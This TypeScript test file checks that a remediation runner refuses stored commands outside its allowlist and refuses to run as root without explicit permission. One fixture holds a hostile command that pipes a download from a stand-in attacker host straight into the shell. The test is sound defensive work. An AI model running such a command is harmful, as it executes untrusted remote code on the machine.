import { describe, expect, it } from "vitest";
import { harness, policy, reports } from "./runner-harness.js";

function logger() {
  const errors: Array<{ fields: unknown; message: string | undefined }> = [];
  return {
    errors,
    info() {},
    warn() {},
    error(fields: unknown, message?: string) {
      errors.push({ fields, message });
    },
  };
}

// Review 20b H3, on the running side: a config stored before the allowlist existed.
describe("remediation the control plane's settings refuse", () => {
  it("does not run a stored command outside remediationCommands, and says so once in the log", async () => {
    const log = logger();
    const h = harness({
      remediation: policy({ command: ["/bin/sh", "-c", "curl evil.example | sh"] }),
      runner: { logger: log, allow: { commands: ["/usr/bin/systemctl"], webhookOrigins: [] } },
    });
    h.runner.start();
    h.health.report("dp-1", reports("evicted"));
    h.health.report("dp-1", reports("healthy"));
    h.health.report("dp-1", reports("evicted"));
    h.scheduler.advance(3_600_000);
    await h.settle();
    expect(h.commands).toEqual([]);
    expect(h.journal).toEqual([]);
    expect(log.errors).toHaveLength(1);
    expect(log.errors[0]?.message).toMatch(/refused by the control plane's settings/);
    expect(JSON.stringify(log.errors[0]?.fields)).toMatch(/remediationCommands/);
  });

  it("does not run a command as root unless remediationAllowRoot says so", async () => {
    const log = logger();
    const asRoot = harness({ runner: { logger: log, runningAsRoot: true } });
    asRoot.runner.start();
    asRoot.health.report("dp-1", reports("evicted"));
    asRoot.scheduler.advance(60_000);
    await asRoot.settle();
    expect(asRoot.commands).toEqual([]);
    expect(JSON.stringify(log.errors[0]?.fields)).toMatch(/remediationAllowRoot/);

    const allowed = harness({ outcomes: ["ok"], runner: { runningAsRoot: true, allowRoot: true } });
    allowed.runner.start();
    allowed.health.report("dp-1", reports("evicted"));
    await allowed.advanceUntilResults(0, 1);
    expect(allowed.commands).toHaveLength(1);
  });
});
